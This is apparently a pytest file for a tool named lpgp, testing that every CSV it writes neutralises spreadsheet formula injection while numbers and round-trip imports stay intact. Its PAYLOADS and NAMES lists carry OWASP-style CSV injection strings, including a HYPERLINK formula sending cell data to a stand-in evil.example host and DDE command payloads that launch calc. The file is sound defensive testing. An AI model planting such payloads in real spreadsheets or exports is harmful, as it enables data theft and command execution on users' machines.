"""Every CSV lpgp writes goes through one writer: no cell a spreadsheet could run as a formula,
numbers stay numbers, and a listed practice file imports again unchanged."""

from __future__ import annotations

import base64
import csv
import io
import re
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lpgp import clock
from lpgp.errors import control_characters
from lpgp.io import csv_writer
from lpgp.io.csv_writer import looks_like_formula, restore_cell, rows_text, safe_cell, safe_text
from lpgp.io.sheets import table_from_records
from lpgp.store import Store

ROOT = Path(__file__).resolve().parents[1]

# Payloads from the OWASP "CSV injection" page and the issue report.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "  @SUM(1)",
]


def london(delta: timedelta) -> str:
    """Now plus ``delta`` as London wall-clock text."""
    moment = (datetime.now(clock.LONDON) + delta).replace(tzinfo=None, microsecond=0)
    return moment.isoformat(sep=" ")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _assert_inert(text: str) -> None:
    """No cell of this CSV text starts like a formula, unless it is a plain number."""
    for cell in _cells(text):
        if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
            continue
        assert not looks_like_formula(cell), cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_a_leading_apostrophe(payload: str) -> None:
    assert safe_text(payload) == "'" + payload
    assert _cells(rows_text([[payload]])) == ["'" + payload]


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert rows_text([[-3, 2.5, "-3", "+44", "Same-day access", None, True]]) == (
        "-3,2.5,-3,+44,Same-day access,,True\n"
    )
    assert safe_cell(float("nan")) == ""


@given(st.text())
def test_what_is_written_reads_back_exactly_and_never_runs(text: str) -> None:
    written = safe_text(text)
    assert restore_cell(written) == text
    assert not looks_like_formula(written) or re.fullmatch(r"[+-][\d.eE+-]+", written)
    # And through lpgp's own CSV reader (which restores cells as it reads them; it refuses
    # control characters other than tabs and line breaks, tested in test_cli_input).
    if set(control_characters(text)) - {"\\x09", "\\x0a", "\\x0d"}:
        return
    records = csv.reader(io.StringIO(rows_text([["Header", "Other"], [text, "x"]]), newline=""))
    sheet = table_from_records("t.csv", [[restore_cell(c) for c in r] for r in records])
    assert sheet.rows[0][1]["Header"] == text.strip()


def test_no_csv_is_written_except_through_the_one_writer() -> None:
    pattern = re.compile(r"csv\.writer\(|DictWriter|\.to_csv\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for path in (ROOT / "lpgp").rglob("*.py")
        if path.name != "csv_writer.py"
        for n, line in enumerate(path.read_text().splitlines(), start=1)
        if pattern.search(line)
    ]
    assert offenders == []


NAMES = ['=HYPERLINK("http://evil.example","Click")', "-Dash Surgery", "@SUM(1)", "'=Quoted"]


def _practice_file(path: Path) -> Path:
    out = io.StringIO()
    rows = [["ODS code", "Practice name", "PCN", "List size", "Email"]]
    for i, name in enumerate(NAMES):
        rows.append([f"Z{10001 + i}", name, "+cmd|' /C calc'!A0", 3000 + i, f"pm{i}@x.nhs.uk"])
    rows.append(["Z10009", "Mill Lane", "North", 4000, "pm9@x.nhs.uk"])
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def test_practices_list_is_inert_and_imports_again_unchanged(cli, tmp_path: Path) -> None:
    assert cli("init", "--place", "Testford")[0] == 0
    code, _, err = cli("practices", "import", str(_practice_file(tmp_path / "in.csv")))
    assert code == 0, err
    code, listed, err = cli("practices", "list", "--format", "csv")
    assert code == 0, err
    _assert_inert(listed)
    cells = _cells(listed)
    # A file's own guarding apostrophe ("'=Quoted") is read as one, as lpgp writes it.
    assert {"'" + NAMES[0], "'-Dash Surgery", "'@SUM(1)", "'=Quoted"} <= set(cells)
    assert ",3000," in listed  # list sizes stay numbers
    again = tmp_path / "listed.csv"
    again.write_text(listed, encoding="utf-8")
    code, out, err = cli("practices", "import", str(again))
    assert code == 0, err
    assert "added 0, changed 0, deactivated 0, reactivated 0, unchanged 5" in out, out
    assert cli("practices", "list", "--format", "csv")[1] == listed
    names = {r["name"] for r in csv.DictReader(io.StringIO(listed))}
    assert {restore_cell(n) for n in names} == {restore_cell(n) for n in NAMES} | {"Mill Lane"}


@pytest.mark.slow  # every CSV command
def test_every_csv_the_cli_writes_is_inert(cli, tmp_path: Path) -> None:
    assert cli("init", "--place", "Testford")[0] == 0
    assert cli("practices", "import", str(_practice_file(tmp_path / "in.csv")))[0] == 0
    assert cli("people", "add", "@SUM(1)", "--role", "Nurse", "--pcn", "=1+1")[0] == 0
    candidates = tmp_path / "candidates.csv"
    with candidates.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Title", "Description"])
        writer.writerows([[p, "-x"] for p in PAYLOADS[:3]])
    code, _, err = cli(
        "vote", "create", "--title", "=HYPERLINK(\"x\")", "--method", "approval", "--seats", "1",
        "--opens", london(timedelta(hours=-1)), "--closes", london(timedelta(hours=3)),
        "--candidates", str(candidates), "--seed", "s", "--named",
    )  # fmt: skip
    assert code == 0, err
    assert cli("vote", "open", "1")[0] == 0
    outputs: dict[str, str] = {}
    mail = tmp_path / "codes.csv"
    assert cli("vote", "codes", "1", "--out", str(mail))[0] == 0
    outputs["codes"] = mail.read_text()
    letters = list(csv.DictReader(io.StringIO(outputs["codes"])))
    assert cli("vote", "cast", letters[0]["Ballot code"], "A")[0] == 0
    remind = tmp_path / "remind.csv"
    assert cli("vote", "remind", "1", "--out", str(remind))[0] == 0
    outputs["remind"] = remind.read_text()
    for args in (["practices", "list"], ["people", "list"], ["vote", "list"], ["cycles", "list"]):
        code, out, err = cli(*args, "--format", "csv")
        assert code == 0, err
        outputs[" ".join(args)] = out
    assert cli("vote", "close", "1")[0] == 0
    code, outputs["export"], err = cli("vote", "export", "1", "--as", "csv")
    assert code == 0, err
    code, outputs["results"], err = cli("vote", "results", "1", "--format", "csv")
    assert code == 0, err
    for text in outputs.values():
        _assert_inert(text)
    assert "'" + NAMES[0] in _cells(outputs["codes"])
    assert "'-Dash Surgery" in _cells(outputs["remind"])
    assert {"'@SUM(1)", "'=1+1"} <= set(_cells(outputs["people list"]))
    assert "'" + NAMES[0] in _cells(outputs["export"])
    assert '\'=HYPERLINK("x")' in _cells(outputs["vote list"])


def test_the_facilitator_download_is_inert(file_store_url: str, monkeypatch) -> None:
    from lpgp.cycle.board import place as places
    from lpgp.cycle.board.practice import import_practices
    from lpgp.cycle.board.practice_rules import PracticeInput
    from lpgp.cycle.vote import vote as votes
    from lpgp.cycle.vote import vote_rules
    from lpgp.ui.viewer import signed_in
    from lpgp.ui.vote import VoteScreen

    store = Store(file_store_url)

    def work(s):
        where = places.create_place(s, "Testford")
        import_practices(s, where, [PracticeInput("Z10001", PAYLOADS[1], "North", 3000)])
        v = votes.create_vote(
            s, where, title="V", method="approval", seats=1,
            opens=london(timedelta(hours=-1)), closes=london(timedelta(hours=2)),
            candidates=[vote_rules.CandidateText(k, k, "", "") for k in "AB"],
            seed="s",
        )  # fmt: skip
        votes.open_vote(s, where, v)
        return where

    where = store.write(work)
    screen = VoteScreen(signed_in(where.id, store=store), store)
    assert screen._issue() == "Issued 1 code: save the two files below now."
    data = screen.files.value.split("text/csv;charset=utf-8;base64,", 1)[1].split('"', 1)[0]
    text = base64.b64decode(data).decode()
    _assert_inert(text)
    assert "'+cmd|' /C calc'!A0" in text
    store.dispose()


def test_the_action_log_csv_still_guards_its_cells() -> None:
    from datetime import date

    from lpgp.cycle.exports.actionlog import render_csv
    from lpgp.cycle.exports.model import ActionLog, ActionLogRow

    log = ActionLog("P", "C", date(2027, 1, 4), (ActionLogRow("  =1+1", "@a", "-b", None, "", ""),))
    text = render_csv(log).decode("utf-8-sig")
    _assert_inert(text)
    first = next(row for n, row in enumerate(csv.reader(io.StringIO(text, newline=""))) if n == 1)
    assert csv_writer.restore_cell(first[0]) == "  =1+1"
